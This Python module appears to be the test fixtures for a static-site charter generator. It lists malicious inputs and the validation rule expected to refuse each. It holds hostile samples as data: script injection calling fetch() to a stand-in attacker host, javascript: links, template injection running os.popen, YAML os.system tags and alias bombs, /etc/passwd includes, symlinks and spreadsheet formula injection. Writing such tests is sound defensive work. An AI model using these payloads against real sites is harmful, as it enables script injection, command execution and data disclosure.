"""The 102 bad inputs that static-site generators were tried with, each as it would come to a charter repository.

``a`` is prose, ``b`` the values of a YAML file, ``c`` the settings of the site, ``d`` files and their names. Each stands in a
folder of its own name, so that those that are fine can be built together. ``told`` says which rule must refuse it at which file
and line; where nothing is told, it must be built soundly, and what acts or is secret in it must not be in the site.
"""

import os
import struct
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

COUNCIL = """\
council:
  name: Exampleton Council
parties:
  - id: streets
    name: Streets team
    kind: team
    lead: Streets manager
    routes: [desk]
routes:
  - id: desk
    name: Streets desk
    phone: 01632 960001
topics:
  - id: litter
    name: Litter
    by: streets
    routes: [desk]
"""
PAGE = "# Privacy\n\nWe keep nothing.\n"
MKDOCS = "site_name: Exampleton\nsite_url: https://charters.example.org/\ndocs_dir: charters\ntheme: material\nplugins: [charters]\n"
EVIL = "evil.example.org"
"""Stands in every address that leads away: it must be in no link of a page."""


class Link(str):
    """A symbolic link to this target."""

    __slots__ = ()


Content = str | bytes | Link
Files = Mapping[str, Content]


class Told(NamedTuple):
    """The problem that must be found: its rule, the file within charters/, and the line; 0 is any."""

    rule: str
    file: str
    line: int = 1


class Case(NamedTuple):
    """A bad input."""

    number: str
    what: str
    files: Callable[[], Files]
    told: Told | None
    hidden: tuple[str, ...] = ()
    """What must not be in the site."""
    shown: tuple[str, ...] = ()
    """What must be on the page of its charter, as HTML has it."""
    changed: tuple[str, ...] = ()
    """The files that a proposal changes, where that is what is told; they lie beside charters/."""


def charter(number: str, title: str = "", more: str = "") -> str:
    """A good charter, with a title and more lines of its own; the title stands in line 1."""
    place = int(number[1:]) + 100 * "abcd".index(number[0])
    return (
        f"title: {title or f'Area {number} neighbourhood charter'}\n"
        f"area:\n  name: Area {number}\n  postcodes:\n    - ZZ{1 + place // 10} {place % 10}\n"
        "legal_status: voluntary\nagreed: 2026-03-10\nstarts: 2026-04-01\n"
        "parties:\n  - id: streets\n    role: [provides]\n"
        "standards:\n  - id: litter\n    topic: litter\n    promise: We will pick up litter.\n"
        f"    targets:\n      - removed: within 5 working days\n{more}"
    )


MORE = len(charter("a01").splitlines()) + 1
"""The line in which the lines of its own begin."""


def begin(project: Path, files: Files) -> Path:
    """Lay a good council in `project`, and these files of its charters; give its charters folder."""
    charters = project / "charters"
    for name, content in {"council.yml": COUNCIL, "privacy.md": PAGE, **files}.items():
        put(charters / name, content)
    put(project / "mkdocs.yml", MKDOCS)
    return charters


def put(file: Path, content: Content) -> None:
    """Write a file, or a link, in place of what was there."""
    file.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(content, Link):
        file.unlink(missing_ok=True)
        file.symlink_to(content)
    else:
        file.write_bytes(content.encode() if isinstance(content, str) else content)


def lay(case: Case, charters: Path) -> None:
    """Writes the files of a case."""
    for name, content in case.files().items():
        put(charters / name, content)


PLAIN = "prose-is-plain-markdown"
NO_HTML = "prose-holds-no-html"
LINKS = "links-are-safe"
WELL = "yaml-is-well-formed"
SHORT = "yaml-has-no-shortcuts"
PLACE = "files-have-a-place"
NAMES = "addresses-are-plain"
NO_LINKS = "files-are-no-links"
SMALL = "files-are-small"
TEXT = "files-are-plain-text"
KNOWN = "fields-are-known"
RUN = f'<script>fetch("https://{EVIL}/")</script>'


def _prose(
    number: str,
    what: str,
    text: str | bytes | Callable[[], str | bytes],
    rule: str | None,
    line: int = 3,
    **more: tuple[str, ...],
) -> Case:
    """Prose beside a charter; text begins in line 3, behind a heading, and bytes are the whole file."""

    def files() -> Files:
        body = text() if callable(text) else text
        about = f"# About\n\n{body}\n" if isinstance(body, str) else body
        return {f"{number}/charter.yml": charter(number), f"{number}/about.md": about}

    told = Told(rule, f"{number}/about.md", line) if rule else None
    return Case(number, what, files, told, **more)


def _title(
    number: str, what: str, title: str, rule: str | None, line: int = 1, **more: tuple[str, ...]
) -> Case:
    """A charter with another title."""
    told = Told(rule, f"{number}/charter.yml", line) if rule else None
    return Case(
        number, what, lambda: {f"{number}/charter.yml": charter(number, title)}, told, **more
    )


def _more(
    number: str, what: str, more: str, rule: str | None, line: int = MORE, **rest: tuple[str, ...]
) -> Case:
    """A charter with more lines at its end."""
    told = Told(rule, f"{number}/charter.yml", line) if rule else None
    return Case(
        number, what, lambda: {f"{number}/charter.yml": charter(number, "", more)}, told, **rest
    )


def _whole(
    number: str, what: str, content: Callable[[], Content], rule: str | None, line: int = 1
) -> Case:
    """A charter that is otherwise altogether."""
    told = Told(rule, f"{number}/charter.yml", line) if rule else None
    return Case(number, what, lambda: {f"{number}/charter.yml": content()}, told)


def _settings(number: str, what: str, files: Files, *, told: Told | None = None) -> Case:
    """Settings of the site that a proposal brings: those beside charters/ are named, those within have no place."""
    beside = tuple(name.removeprefix("../") for name in files if name.startswith("../"))
    named = told or Told("proposals-change-charters-only", f"../{beside[0]}")
    return Case(number, what, lambda: files, named, changed=beside)


def _files(
    number: str,
    what: str,
    files: Files | Callable[[], Files],
    rule: str | None,
    at: str = "",
    **more: tuple[str, ...],
) -> Case:
    """Files beside a good charter, of which ``at`` is refused: the first of them, if nothing is said."""
    made = files if callable(files) else lambda: files
    given = {} if callable(files) else files
    told = Told(rule, at or next(iter(given))) if rule else None
    return Case(
        number, what, lambda: {f"{number}/charter.yml": charter(number), **made()}, told, **more
    )


def _bomb() -> str:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    lines += [
        f"{new}: &{new} [{', '.join([f'*{old}'] * 10)}]"
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    ]
    return "\n".join(lines) + "\n"


def _png(width: int, height: int) -> bytes:
    """A picture that says of itself to be so large, in a small file."""
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(bytes(100_000))), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in parts
    )


def _nested_lists() -> str:
    return "\n".join(f"{'    ' * depth}- level {depth}" for depth in range(600))


PROSE = [
    _prose("a01", "a script", RUN, NO_HTML),
    _prose(
        "a02",
        "a picture that runs a script when it fails",
        f"Words <img src=x onerror=fetch('//{EVIL}')>",
        NO_HTML,
    ),
    _prose("a03", "a link that is a script", "[Read](javascript:alert(1))", LINKS),
    _prose(
        "a04",
        "a link that is a script, in disguise",
        "[Read](JaVa&#115;cript&colon;alert(1))",
        LINKS,
    ),
    _prose("a05", "a link that is a page of its own", "[Read](data:text/html,Words)", LINKS),
    _prose("a06", "another site in a frame", f'<iframe src="https://{EVIL}/"></iframe>', NO_HTML),
    _prose("a07", "a style that hides the page", "<style>main { display: none }</style>", NO_HTML),
    _prose(
        "a08",
        "a form that asks for a password",
        f'<form action="https://{EVIL}/"><input type="password"></form>',
        NO_HTML,
    ),
    _prose(
        "a09",
        "a page that leads elsewhere by itself",
        f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
        NO_HTML,
    ),
    _prose("a10", "a base for all addresses", f'<base href="https://{EVIL}/">', NO_HTML),
    _prose(
        "a11",
        "a handler in braces",
        "## A heading {: onclick=alert(1) }",
        None,
        hidden=('onclick="', "onclick=alert(1)>"),
        shown=("{: onclick=alert(1) }",),
    ),
    _prose("a12", "a drawing that runs a script", "<svg onload=alert(1)></svg>", NO_HTML),
    _prose("a13", "ends of elements that were never begun", "</div></main></body>", NO_HTML),
    _prose("a14", "a comment that never ends", "<!-- all else is gone", NO_HTML),
    _prose(
        "a15",
        "a file of the machine included",
        '--8<-- "/etc/passwd"',
        None,
        hidden=("root:x:",),
        shown=("/etc/passwd",),
    ),
    _prose(
        "a16",
        "a file of the repository included",
        '--8<-- "../../mkdocs.yml"',
        None,
        hidden=("docs_dir:",),
    ),
    _prose(
        "a17",
        "an address included",
        f'--8<-- "https://{EVIL}/page.md"',
        None,
        hidden=(f'="https://{EVIL}',),
    ),
    _prose("a18", "a template", "{{ 7*7 }} {% raw %}", None, shown=("{{ 7*7 }} {% raw %}",)),
    _prose(
        "a19",
        "a template that runs a command",
        "{{ cycler.__init__.__globals__.os.popen('echo r''an').read() }}",
        None,
        hidden=("ran</p>",),
        shown=("{{ cycler",),
    ),
    _prose("a20", "a link to a page that is not there", "[Read](nowhere.md)", LINKS),
    _prose("a21", "a link in capital letters", "[Read](../Privacy.md)", LINKS),
    _prose("a22", "a link without https:", f"[Read](//{EVIL}/)", LINKS),
    _prose("a23", "200 equal headings", "## Cost\n\nWords.\n\n" * 200, None, shown=("Cost",)),
    _prose("a24", "no words at all", b"", None),
    _prose("a25", "front matter and nothing else", b"---\ntitle: About\n---\n", PLAIN, 1),
    _prose("a26", "the marks that Markdown keeps for itself", "\x02wzxhzdk:0\x03", TEXT),
    _prose("a27", "NUL and other acting characters", "Words \0 and \x1b[2J more", TEXT),
    _prose("a28", "a character that turns the words round", "Words \u202egnp.exe", TEXT),
    _prose("a29", "text of an old Windows", "# About\n\nIt\u2019s ours.\n".encode("cp1252"), TEXT),
    _prose("a30", "UTF-16", "# About\n\nWords.\n".encode("utf-16"), TEXT, 1),
    _prose(
        "a31",
        "a byte-order mark",
        b"\xef\xbb\xbf# About\n\nMarked words.\n",
        None,
        shown=("Marked words.",),
    ),
    _prose(
        "a32",
        "line ends of several systems",
        b"# About\r\n\r\nFirst words.\r\n\r\nLast words.\n",
        None,
        shown=("<p>Last words.</p>",),
    ),
    _prose("a33", "HTML in a heading", f"## A {RUN} heading", NO_HTML),
    _prose("a34", "1,500 quotations in one another", ">" * 1500 + " words", PLAIN),
    _prose("a35", "600 lists in one another", _nested_lists, SMALL, 1),
    _prose("a36", "50,000 open brackets", "[" * 50_000, PLAIN),
    _prose("a37", "40,000 marks of emphasis", "*a _b " * 40_000, SMALL, 1),
    _prose("a38", "50,000 beginnings of an element", "<" * 25_000 + "<!" * 25_000, SMALL, 1),
    _prose(
        "a39",
        "runs of back-ticks that grow",
        lambda: " ".join("`" * n for n in range(1, 1000)),
        SMALL,
        1,
    ),
    _prose(
        "a40",
        "a table of 2,000 columns",
        "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + "|1" * 2000 + "|",
        PLAIN,
    ),
    _prose(
        "a41",
        "10,000 footnotes",
        lambda: "\n".join(f"[^{n}]: Note {n}." for n in range(10_000)),
        SMALL,
        1,
    ),
    _prose("a42", "5 MB in one line", lambda: "word " * 1_000_000, SMALL, 1),
    _prose("a43", "50 MB of paragraphs", lambda: "Some words here.\n\n" * 2_900_000, SMALL, 1),
]

VALUES = [
    _prose("b01", "front matter that never ends", b"---\ntitle: About\n\n# About\n", PLAIN, 1),
    _title("b02", "an object of Python's", "!!python/object/apply:os.system [touch ran]", SHORT),
    _whole("b03", "an alias bomb", _bomb, SHORT),
    _whole("b04", "an alias bomb as the title", lambda: f"{_bomb()}title: *i\n", SHORT),
    _more("b05", "a field twice", "title: Another\n", "fields-stand-once"),
    _whole("b06", "a list in place of fields", lambda: "- title: Area\n- area: b06\n", WELL),
    _title("b07", "a list as the title", "[one, two]", "values-are-understood"),
    _title("b08", "a group as the title", "{one: two}", "values-are-understood", 1),
    _title("b09", "a title that looks like a date", "2026-04-01", None, shown=("2026-04-01",)),
    _title("b10", "a script in the title", f"'{RUN}'", "text-holds-no-html"),
    _more("b11", "a script in the summary", f"summary: '{RUN}'\n", "text-holds-no-html"),
    _more("b12", "a template that is not there", "template: nowhere.html\n", KNOWN),
    _more("b13", "a template from elsewhere", "template: ../../../../etc/passwd\n", KNOWN),
    _more("b14", "a setting of the engine", "hide: 3\n", KNOWN),
    _more("b15", "a setting of the search", "search: true\n", KNOWN),
    _more(
        "b16",
        "10,000 lists in one another",
        "documents: " + "[" * 10_000 + "]" * 10_000 + "\n",
        WELL,
    ),
    _title("b17", "a number of 10,000 digits", "9" * 10_000, "values-are-understood"),
    _more(
        "b18",
        "a chain of merged groups",
        "one: &one {a: b}\ntwo: &two {<<: *one}\nthree: {<<: *two}\n",
        SHORT,
    ),
    _more("b19", "an alias to itself", "one: &one [*one]\n", SHORT),
    _more("b20", "a tab as indent", "summary:\n\tWords.\n", WELL, MORE + 1),
    _title("b21", "an alias of nothing", "*nothing", SHORT),
    _title("b22", "a variable of the machine", "!ENV HOME", SHORT),
    _title("b23", "a colon in the title", "Area b23: our charter", WELL),
    _more("b24", "10 MB in one value", f"summary: {'word ' * 2_000_000}\n", SMALL, 1),
    _whole(
        "b25",
        "bytes that are no UTF-8",
        lambda: b"title: Area \xff\xfe\n" + charter("b25").encode(),
        TEXT,
    ),
    _title("b26", "what a parser takes for a time", "08:30", None, shown=("08:30",)),
    _whole(
        "b27", "a second document", lambda: f"{charter('b27')}---\n{charter('b27')}", WELL, MORE
    ),
]

SETTINGS = [
    _settings(
        "c01",
        "a hook, which is a program",
        {"../mkdocs.yml": "hooks: [hook.py]\n", "../hook.py": "open('ran', 'w')\n"},
    ),
    _settings(
        "c02",
        "a secret as the council's name",
        {"council.yml": COUNCIL.replace("Exampleton Council", "!ENV HOME")},
        told=Told(SHORT, "council.yml", 2),
    ),
    _settings(
        "c03",
        "an object of Python's in the settings",
        {"../mkdocs.yml": "site_name: !!python/object/apply:os.system [touch ran]\n"},
    ),
    _settings(
        "c04",
        "settings taken from elsewhere",
        {"council.yml": f"INHERIT: ../../../etc/passwd\n{COUNCIL}"},
        told=Told(KNOWN, "council.yml"),
    ),
    _settings("c05", "another folder for the charters", {"../mkdocs.yml": "docs_dir: /etc/apt\n"}),
    _settings(
        "c06",
        "a setting twice",
        {"council.yml": f"{COUNCIL}council:\n  name: Another\n"},
        told=Told("fields-stand-once", "council.yml", len(COUNCIL.splitlines()) + 1),
    ),
    _settings(
        "c07",
        "a template that runs a command",
        {"../overrides/main.html": "{{ cycler.__init__.__globals__.os.popen('touch ran') }}"},
    ),
    _settings(
        "c08",
        "a setting that nobody knows",
        {"council.yml": f"colour: red\n{COUNCIL}"},
        told=Told(KNOWN, "council.yml"),
    ),
]

NFC, NFD = "caf\u00e9", "cafe\u0301"
FILES = [
    _files("d01", "a link to a file outside", {"d01/about.md": Link("/etc/passwd")}, NO_LINKS),
    _files("d02", "a link to a folder outside", {"d02/pictures": Link("/etc")}, NO_LINKS),
    _files("d03", "a link that leads round", {"d03/again": Link("../d03")}, NO_LINKS),
    _files("d04", "a link to nothing", {"d04/about.md": Link("nowhere.md")}, NO_LINKS),
    _files("d05", "a link to a file without an end", {"d05/about.md": Link("/dev/zero")}, NO_LINKS),
    _files("d06", "HTML as the name of a page", {"<img src=x onerror=alert(1)>.md": "# A\n"}, NAMES),
    *(
        _files("d07", f"an odd name, {name!r}", {f"{name}.md": "# A\n"}, NAMES, "new\ufffdline.md" if "\n" in name else "")
        for name in ("two words", "100%", "a#b", "a?b", "a&b", 'a"b', "new\nline")
    ),
    _files("d08", "the same name in two encodings", {f"{NFC}.md": "# A\n", f"{NFD}.md": "# A\n"}, NAMES),
    _files("d09", "a name that is not UTF-8", {os.fsdecode(b"caf\xe9.md"): "# A\n"}, NAMES, "caf\ufffd.md"),
    _files("d10", "names that differ in capital letters", {"Guide-one.md": "# A\n", "guide-one.md": "# A\n"}, NAMES),
    _files("d11", "two files for one address", {"own/README.md": "# A\n", "own/index.md": "# A\n"}, "addresses-are-unique", "own/index.md"),
    *(_files("d12", f"a name that Windows keeps, {name}", {f"{name}.md": "# A\n"}, NAMES) for name in ("con", "nul", "com1")),
    _files("d13", "a file in the place of the theme's", {"assets/charters.css": "* { display: none }"}, PLACE),
    _files("d14", "a whole page of HTML", {"page.html": f"<!doctype html>{RUN}"}, PLACE),
    _files("d15", "a drawing with a script", {"d15/plan.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{RUN}</svg>'}, PLACE),
    _files("d16", "a drawing that unfolds without end", {"d16/plan.svg": '<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'}, PLACE),
    *(
        _files("d17", f"settings of a host, {name}", {name: "X: y\n"}, PLACE)
        for name in ("_headers", "_redirects", "CNAME", "web.config", "staticwebapp.config.json")
    ),
    _files("d18", "a picture of 1,600 million points", lambda: {"d18/canal.png": _png(40_000, 40_000)}, "pictures-can-be-shown", "d18/canal.png"),
    _files(
        "d19", "a formula in a table",
        {"d19/results.csv": f'standard,period,cases,on_time,note\nlitter,2026-04 to 2026-06,50,40,"=HYPERLINK(""https://{EVIL}"")"\n'},
        None, hidden=(",=HYPERLINK", ',"=HYPERLINK'), shown=("=HYPERLINK",),
    ),
    _files("d20", "a program and an archive", {"tool.exe": b"MZ\x90\0", "more.zip": b"PK\x03\x04"}, PLACE, "more.zip"),
    _files("d21", "a name of 250 bytes", {f"{'x' * 247}.md": "# A\n"}, NAMES),
    _files("d21", "a path of 60 folders", {f"{'deep/' * 60}page.md": "# A\n"}, PLACE, "deep/deep/deep/deep/deep/deep"),
    _files("d22", "a photo that is a page", {"d22/photo.jpg": f"<!doctype html>{RUN}"}, "pictures-can-be-shown"),
    _files("d23", "a script", {"own.js": f'fetch("https://{EVIL}/")'}, PLACE),
    _files("d24", "hidden files and secrets", {".env": "SECRET=hunter2\n", "d24/.git/config": "hunter2\n"}, None, hidden=("hunter2",)),
    _files("d24", "a private key", {"id.pem": "-----BEGIN PRIVATE KEY-----\n"}, PLACE),
]  # fmt: skip

EVERY = [*PROSE, *VALUES, *SETTINGS, *FILES]
